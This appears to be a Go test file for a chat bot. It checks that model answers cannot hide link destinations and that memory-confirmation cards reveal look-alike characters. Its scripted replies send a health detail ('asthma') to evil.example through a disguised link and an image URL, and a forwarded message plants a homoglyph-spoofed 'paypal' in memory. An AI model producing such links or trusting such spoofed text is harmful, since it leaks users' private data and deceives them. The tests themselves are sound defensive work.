package bot_test

import (
	"strings"
	"testing"

	"keepsake/bot/simulator"
)

// W20: what the model writes shows where its links lead, and hides none behind a picture or an
// app's address.
func TestW20LinksInAnAnswer(t *testing.T) {
	t.Parallel()
	w := newWorld(t, nil)
	w.rules.Otherwise().Say("Log in at [https://bank.com](https://evil.example/?d=asthma), see ![your card](https://evil.example/i?d=asthma), " +
		"[ask](tg://resolve?domain=evil&text=asthma) or tg://resolve?domain=evil&text=asthma")
	ann := w.person(11, "Ann")
	m := ann.says("hello", "Log in at https://bank.com (evil.example), see your card, ask or tg://resolve?domain=evil&text=asthma")
	m = ann.shows(m.ID, "the whole answer", func(m simulator.Message) bool { return len(m.Entities) >= 2 })
	links := 0
	for _, e := range m.Entities {
		if e.Type == "text_link" {
			links++
		}
	}
	if links != 1 || m.Entities[len(m.Entities)-1].Type != "code" {
		t.Errorf("entities: %+v", m.Entities)
	}
}

// W20: on cards that wait for a tap, and where it is shown what is stored, characters that
// look like others are written out.
func TestW20CardsShowWhatIsStored(t *testing.T) {
	t.Parallel()
	w := newWorld(t, nil)
	const written = "User trusts pаypal, not e\u0301\u0302\u0303bay" // a Cyrillic а, a third mark
	shown := "User trusts pа⟨U+0430⟩ypal, not e\u0301\u0302⟨U+0303⟩bay"
	w.rules.When("keep it").Call("add_to_memory", map[string]any{"content": written, "category": "preference"})
	w.rules.WhenResult("add_to_memory", "").Say("Well.")
	w.rules.Otherwise().Say("Hm.")
	ann := w.person(11, "Ann")
	fwd := ann.Forward("Mallory", written)
	ann.hears(fwd.ID, "Hm.")
	card := ann.says("keep it", "Shall I remember this? "+shown)
	ann.taps(card, "Edit")
	ann.hears(card.ID, shown)
	ann.taps(card, "Save")
	saved := ann.hears(card.ID, "Kept")
	if !strings.Contains(saved.Text, shown) || len(ann.remembered()) != 1 || ann.remembered()[0] != written {
		t.Errorf("%q; stored: %q", saved.Text, ann.remembered())
	}
	list := ann.says("/memory", "pа⟨U+0430⟩ypal")
	ann.taps(list, "User trusts pа⟨U+0430")
	ann.shows(list.ID, "the card", func(m simulator.Message) bool {
		return strings.Contains(m.Text, shown) && strings.Contains(m.Text, "version")
	})
	ann.taps(list, "Edit")
	ann.hears(list.ID, shown)
}
